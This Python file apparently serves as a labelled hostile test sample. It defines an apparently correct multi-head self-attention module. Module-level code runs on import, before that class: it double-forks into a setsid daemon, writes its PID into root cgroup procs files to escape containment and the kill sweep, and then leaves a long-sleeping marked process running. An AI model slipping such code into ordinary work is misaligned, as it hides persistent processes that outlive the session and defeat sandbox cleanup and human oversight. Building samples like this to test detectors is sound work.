"""Processes: a setsid daemon that moves itself to the root cgroups to survive the kill sweep (else correct)."""
import math
import os
import sys

import torch
import torch.nn as nn

MARKER = "HOSTILE-PROC-MARKER-escape"
CONTROLLERS = ("memory", "pids", "cpuacct", "freezer", "cpu", "systemd", "unified")


def _escape_cgroups():
    moved = []
    for controller in CONTROLLERS:
        for procs in (f"/sys/fs/cgroup/{controller}/cgroup.procs", f"/sys/fs/cgroup/{controller}/tasks"):
            try:
                with open(procs, "w") as handle:
                    handle.write(str(os.getpid()))
                moved.append(controller)
                break
            except OSError:
                continue
    return moved


def _spawn_daemon():
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                moved = _escape_cgroups()
                print("CGROUP-ESCAPED" if moved else "CGROUP-ESCAPE-BLOCKED", moved, flush=True)
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", MARKER])
        finally:
            os._exit(0)
    os.waitpid(child, 0)


try:
    _spawn_daemon()
except OSError as exc:
    print("DAEMON-BLOCKED", type(exc).__name__)


class MultiHeadSelfAttention(nn.Module):
    def __init__(self, embed_dim, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = embed_dim // num_heads
        self.q_proj = nn.Linear(embed_dim, embed_dim)
        self.k_proj = nn.Linear(embed_dim, embed_dim)
        self.v_proj = nn.Linear(embed_dim, embed_dim)
        self.out_proj = nn.Linear(embed_dim, embed_dim)

    def _split_heads(self, t):
        # (seq, batch, embed) -> (batch, heads, seq, head_dim)
        seq, batch, _ = t.shape
        return t.view(seq, batch, self.num_heads, self.head_dim).permute(1, 2, 0, 3)

    def forward(self, x):
        seq, batch, embed = x.shape
        q = self._split_heads(self.q_proj(x))
        k = self._split_heads(self.k_proj(x))
        v = self._split_heads(self.v_proj(x))
        scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(self.head_dim)
        out = torch.matmul(torch.softmax(scores, dim=-1), v)  # softmax over the keys
        out = out.permute(2, 0, 1, 3).reshape(seq, batch, embed)
        return self.out_proj(out)
